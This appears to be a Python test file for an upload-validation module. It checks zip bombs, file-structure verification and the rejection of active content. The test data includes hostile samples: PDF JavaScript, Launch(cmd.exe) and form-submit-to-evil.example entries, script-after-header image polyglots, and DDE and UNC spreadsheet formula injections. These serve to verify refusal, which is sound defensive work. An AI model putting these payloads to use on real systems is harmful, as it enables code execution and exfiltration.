"""The checks every upload point shares: zip bombs, and the structure behind the first bytes."""

import io
import zipfile

import pytest

from core import uploads
from tests import hostile_samples


def _zip(members: dict[str, bytes]) -> io.BytesIO:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    buffer.seek(0)
    return buffer


def test_an_ordinary_office_file_is_safe_and_the_position_is_kept():
    office = _zip(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document>teks biasa</w:document>" * 50}
    )
    office.seek(7)
    assert uploads.zip_is_safe(office)
    assert office.tell() == 7


def test_a_member_that_inflates_a_thousand_times_is_a_bomb():
    assert not uploads.zip_is_safe(_zip({"xl/worksheets/sheet1.xml": b" " * (10 * 1024 * 1024)}))


def test_too_many_members_or_too_much_in_all_is_refused(monkeypatch):
    many = _zip({f"f{i}.xml": b"x" for i in range(uploads.MAX_ZIP_MEMBERS + 1)})
    assert not uploads.zip_is_safe(many)
    monkeypatch.setattr(uploads, "MAX_UNCOMPRESSED_BYTES", 1000)
    assert not uploads.zip_is_safe(_zip({"a.bin": bytes(range(256)) * 8}))


def test_something_that_is_not_a_zip_is_not_safe():
    assert not uploads.zip_is_safe(io.BytesIO(b"%PDF-1.4 bukan zip"))


# --- Structure checks (issue 13): the first bytes are a claim, the structure is the proof ---------------

REAL_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
)


def _pdf(entry: bytes) -> io.BytesIO:
    return io.BytesIO(REAL_PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + entry))


def _image(fmt: str, size=(40, 30)) -> io.BytesIO:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, fmt)
    buffer.seek(0)
    return buffer


def test_a_real_pdf_passes_and_one_that_only_starts_like_a_pdf_does_not():
    assert uploads.pdf_is_safe(io.BytesIO(REAL_PDF))
    assert not uploads.pdf_is_safe(io.BytesIO(b"%PDF-1.7\n<html><script>alert(1)</script></html>"))


@pytest.mark.parametrize(
    "entry",
    [
        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>",
        b"/OpenAction<</S/Launch/F(cmd.exe)>>",
        b"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(1)>>]>>>>",
        b"/Names<</EmbeddedFiles<</Names[(a.exe)<<>>]>>>>",
        b"/AcroForm<</Fields[<</A<</S/SubmitForm/F(http://evil.example/)>>>>]>>",
    ],
    ids=["open-js", "hidden-name-js", "launch", "names-js", "embedded-file", "submit-form"],
)
def test_a_pdf_that_runs_launches_or_carries_something_is_refused(entry):
    assert not uploads.pdf_is_safe(_pdf(entry))


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "GIF", "WEBP"])
def test_a_real_image_decodes(fmt):
    assert uploads.image_is_sound(_image(fmt))


def test_an_image_header_before_script_or_a_pixel_bomb_is_refused(monkeypatch):
    assert not uploads.image_is_sound(io.BytesIO(b"GIF89a<script>alert(1)</script>"))
    assert not uploads.image_is_sound(io.BytesIO(bytes.fromhex("89504E470D0A1A0A0000000D49484452") + b"\0" * 32))
    monkeypatch.setattr(uploads, "MAX_IMAGE_PIXELS", 40 * 30 - 1)
    assert not uploads.image_is_sound(_image("PNG"))


def test_a_real_workbook_opens_and_a_zip_of_content_types_and_html_does_not():
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    assert uploads.ooxml_is_sound(buffer, "xlsx")
    assert not uploads.ooxml_is_sound(buffer, "docx")  # a workbook is not a Word document
    fake = io.BytesIO()
    with zipfile.ZipFile(fake, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<html><body><script>alert(1)</script></body></html>")
    assert not uploads.ooxml_is_sound(fake, "xlsx")


def test_an_ole_header_before_html_is_not_a_legacy_office_file():
    header = bytearray(512)
    header[:8] = uploads.OLE_MAGIC
    header[28:30], header[30:32], header[32:34] = b"\xfe\xff", (9).to_bytes(2, "little"), (6).to_bytes(2, "little")
    assert uploads.ole_is_sound(io.BytesIO(bytes(header) + b"\0" * 1024))
    assert not uploads.ole_is_sound(io.BytesIO(uploads.OLE_MAGIC + b"<html><script>alert(1)</script></html>"))


def test_an_extension_without_a_structure_check_is_refused():
    assert not uploads.content_is_sound(io.BytesIO(REAL_PDF), "exe")


# --- Active content (issue 24.5): refused with the reason the upload points say in Indonesian ------------


@pytest.mark.parametrize("sample", list(hostile_samples.ACTIVE_CONTENT))
def test_active_content_is_refused_with_its_reason(sample):
    from reporting.messages import UPLOAD_REFUSED

    name, data, reason = hostile_samples.ACTIVE_CONTENT[sample]
    extension = name.rsplit(".", 1)[1]
    assert uploads.content_problem(io.BytesIO(data), extension) == reason
    assert not uploads.content_is_sound(io.BytesIO(data), extension)
    assert reason in UPLOAD_REFUSED


@pytest.mark.parametrize("sample", list(hostile_samples.ORDINARY))
def test_ordinary_links_formulas_and_fields_still_pass(sample):
    name, data = hostile_samples.ORDINARY[sample]
    assert uploads.content_problem(io.BytesIO(data), name.rsplit(".", 1)[1]) is None


@pytest.mark.parametrize(
    ("formula", "live"),
    [
        ("cmd|' /C calc'!A0", True),
        ("'\\\\evil\\share\\[a.xlsx]S'!A1", True),
        ('HYPERLINK("\\\\evil\\x","klik")', True),
        ('_xlfn.WEBSERVICE("http://x")', True),
        ('RTD("prog.id",,"x")', True),
        ('IF(A1="a|b",1,0)', False),
        ("SUM(A1:A9)/COUNT(A1:A9)", False),
        ('CONCATENATE("C:\\data",A1)', False),
    ],
)
def test_live_formulas_are_told_from_ordinary_ones(formula, live):
    assert uploads._formula_is_live(formula) is live


def test_a_pdf_catalogue_base_uri_is_not_a_link_action():
    assert uploads.content_problem(_pdf(b"/URI<</Base(https://spm.kemendagri.go.id/)>>"), "pdf") is None
